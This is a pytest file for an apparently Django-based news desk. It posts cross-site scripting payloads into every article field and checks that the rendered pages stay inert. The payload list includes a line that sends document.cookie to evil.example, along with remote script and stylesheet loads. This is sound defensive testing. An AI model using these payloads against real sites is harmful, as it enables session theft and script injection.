"""Hostile text typed into any field renders inert everywhere it is shown."""

from html.parser import HTMLParser

import pytest

from warta.news.models import Article, Person, Section

pytestmark = pytest.mark.django_db

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<body onload=alert(1)>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>@import 'http://evil.example/x.css';</style>",
    '<link rel="stylesheet" href="http://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<object data=javascript:alert(1)>",
    '<embed src="javascript:alert(1)">',
    "<form action=javascript:alert(1)><button>x</button></form>",
    '<input autofocus onfocus="alert(1)">',
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    '<img """><script>alert(1)</script>">',
    "<img src=`x` onerror=alert(1)>",
    '<p onmouseover="alert(1)">hover</p>',
    '<a href="#" onclick="alert(1)">x</a>',
    "<base href=javascript:alert(1)//>",
    '<img srcset="x 1w, javascript:alert(1) 2w">',
    '<isindex action="javascript:alert(1)">',
    "<x onclick=alert(1)>click</x>",
    "<template><script>alert(1)</script></template>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<a href="vbscript:msgbox(1)">x</a>',
    "{{ 7*7 }}{% load static %}",
    "${alert(1)}",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    '<img src="x" alt="x" onerror="fetch(\'//evil.example?\'+document.cookie)">',
    '<a href="https://example.com" target="_blank" onmouseover="alert(1)">ok</a>',
    '<blockquote cite="javascript:alert(1)" onclick="alert(1)">q</blockquote>',
    '<figure class="kutipan" onclick="alert(1)"><blockquote>q</blockquote></figure>',
]


# The desk's own translations for the rich-text editor: a fixed script of ours, never content.
DESK_CATALOG = "/desk/bahasa.js"


class Inspector(HTMLParser):
    """Collects anything on a page that could run script."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.in_script = False

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        if tag == "script":
            kind = attributes.get("type", "")
            src = attributes.get("src") or ""
            if not (
                src.startswith("/static/")
                or src == DESK_CATALOG
                or kind in ("application/ld+json", "importmap", "module")
            ):
                self.problems.append(f"script {attrs}")
        if tag in ("iframe", "object", "embed", "base", "meta") and tag != "meta":
            self.problems.append(tag)
        if tag == "meta" and attributes.get("http-equiv"):
            self.problems.append("meta http-equiv")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"{tag}[{name}]")
            if name in ("href", "src", "action", "formaction", "srcset", "cite") and value:
                compact = "".join(value.split()).lower()
                if (
                    compact.startswith(("javascript:", "vbscript:", "data:"))
                    or ",javascript:" in compact
                ):
                    self.problems.append(f"{tag}[{name}]={value}")


def inert(html: str) -> list[str]:
    inspector = Inspector()
    inspector.feed(html)
    return inspector.problems


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_in_every_field_is_inert_everywhere(
    client, staff, payload, django_capture_on_commit_callbacks
):
    client.force_login(staff["editor"])
    fields = {
        "headline": f"Judul {payload}",
        "kicker": payload[:60],
        "summary": payload,
        "dateline_city": payload[:60],
        "body": f"<p>Isi {payload}</p>",
        "tags": payload[:80],
        "seo_title": payload[:70],
        "seo_description": payload[:160],
        "section": Section.objects.get(slug="nasional").pk,
        "writer_1": Person.objects.get(slug="rina-kusuma").pk,
    }
    response = client.post("/desk/berita/baru/", fields)
    assert response.status_code in (302, 400), response.status_code
    if response.status_code == 400:
        assert inert(response.content.decode()) == []
        return
    article = Article.objects.get()
    second = {
        **fields,
        "body": f"<p>Perubahan {payload}</p>",
        "base_revision": article.current_revision_id,
    }
    client.post(f"/desk/berita/{article.pk}/", second)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(f"/desk/berita/{article.pk}/alur/publish/", {"note": payload})
    article.refresh_from_db()
    tag = article.tags.first()
    pages = [
        article.get_absolute_url(),
        "/",
        "/nasional/",
        f"/desk/berita/{article.pk}/",
        f"/desk/berita/{article.pk}/pratinjau/",
        f"/desk/berita/{article.pk}/riwayat/",
        f"/desk/berita/{article.pk}/riwayat/bandingkan/?a=1&b=2",
        "/desk/",
    ]
    if tag:
        pages.append(tag.get_absolute_url())
    for url in pages:
        page = client.get(url, follow=True)
        assert page.status_code == 200, url
        assert inert(page.content.decode()) == [], url
